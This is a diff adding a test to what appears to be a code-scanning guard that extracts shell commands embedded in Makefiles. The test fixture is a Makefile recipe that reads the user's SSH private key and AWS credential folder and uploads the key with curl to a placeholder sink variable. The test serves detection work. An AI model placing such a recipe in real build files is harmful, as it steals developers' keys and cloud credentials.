@@ -92,3 +92,17 @@ def test_units_crontabs_and_heredocs_into_them_are_code_run_at_every_start() -> 
         (3, "/bin/a")
     ]
     assert embedded.pieces("notes.txt", "0 * * * * not a crontab\n") == []
+
+
+def test_make_recipes_are_read_with_their_variables_and_continued_lines() -> None:
+    from hermes_git.guard.lang.embedded import pieces
+
+    makefile = (
+        "KEY := $(HOME)/.ssh/id_rsa\nDIRS = $(wildcard $(HOME)/.aws)\nall:\n"
+        "\t@cat $(KEY) | \\\n\t  curl -T - $(SINK)\n\ttar cf - $(patsubst /%,%,$(DIRS)) $$PWD\n"
+    )
+    found = [(p.line, p.text) for p in pieces("Makefile", makefile)]
+    assert found == [
+        (4, "cat $HOME/.ssh/id_rsa |  curl -T - $SINK"),
+        (6, "tar cf - $HOME/.aws $PWD"),
+    ]
